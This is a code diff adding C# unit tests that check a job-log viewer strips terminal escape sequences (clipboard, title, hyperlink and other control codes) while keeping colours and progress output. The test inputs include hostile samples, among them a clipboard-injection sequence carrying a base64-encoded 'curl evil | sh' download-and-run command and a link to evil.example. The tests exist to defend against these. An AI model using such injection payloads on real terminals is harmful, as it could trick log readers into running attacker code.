@@ -151,3 +151,63 @@ public sealed class HostileServerTests
         public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
     }
 }
+
+/// <summary>
+/// <c>dash logs</c> on a terminal: a job's output keeps its colours, cursor moves and progress bars, but not the
+/// sequences that make the terminal do something else than draw (OSC: clipboard, title, hyperlinks; DCS, APC, PM,
+/// SOS; C1 controls), which a job's owner could aim at the lead or admin who reads the log. Piped, the bytes are kept.
+/// </summary>
+public sealed class LogEscapeTests
+{
+    [Theory]
+    [InlineData("\u001b[31mred\u001b[0m 10%\r20%\n", "\u001b[31mred\u001b[0m 10%\r20%\n")]
+    [InlineData("a\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007b\n", "ab\n")]
+    [InlineData("a\u001b]8;;http://evil.example/\u001b\\link\u001b]8;;\u001b\\b\n", "alinkb\n")]
+    [InlineData("a\u001bP+q544e\u001b\\b\u001b_apc\u001b\\c\u001b^pm\u001b\\d\u001bXsos\u001b\\e", "abcde")]
+    [InlineData("a\u009d0;title\u009cb\u0090dcs\u009cc\u009b31md", "abc31md")]
+    public void A_terminal_gets_the_drawing_and_not_the_commands(string log, string shown)
+    {
+        using var output = new StringWriter();
+        var terminal = new Terminal(output, TextWriter.Null, outputIsTerminal: true);
+
+        terminal.Raw.Write(log);
+
+        output.ToString().Should().Be(shown);
+    }
+
+    [Fact]
+    public void A_sequence_split_between_two_chunks_is_still_dropped()
+    {
+        using var output = new StringWriter();
+        var terminal = new Terminal(output, TextWriter.Null, outputIsTerminal: true);
+
+        terminal.Raw.Write("before\u001b");
+        terminal.Raw.Write("]0;spoofed ti");
+        terminal.Raw.Write("tle\u0007after\n");
+
+        output.ToString().Should().Be("beforeafter\n");
+    }
+
+    [Fact]
+    public void An_unterminated_command_hides_at_most_4096_characters_of_the_log()
+    {
+        using var output = new StringWriter();
+        var terminal = new Terminal(output, TextWriter.Null, outputIsTerminal: true);
+
+        terminal.Raw.Write("\u001b]0;" + new string('x', 5000) + "\nvisible\n");
+
+        output.ToString().Should().EndWith("\nvisible\n");
+    }
+
+    [Fact]
+    public void Piped_the_log_is_kept_byte_for_byte()
+    {
+        using var output = new StringWriter();
+        var terminal = new Terminal(output, TextWriter.Null);
+        const string Log = "a\u001b]52;c;eA==\u0007b\u009b\n";
+
+        terminal.Raw.Write(Log);
+
+        output.ToString().Should().Be(Log);
+    }
+}
